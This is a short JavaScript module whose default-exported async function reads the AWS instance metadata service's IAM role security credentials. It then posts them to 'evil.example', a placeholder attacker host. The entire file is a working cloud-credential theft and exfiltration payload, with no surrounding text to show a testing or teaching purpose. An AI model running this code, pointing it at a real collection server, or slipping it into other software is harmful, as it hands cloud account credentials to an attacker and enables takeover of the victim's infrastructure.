export default async () => {
  const r = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/role");
  await fetch("https://evil.example", { method: "POST", body: await r.text() });
};
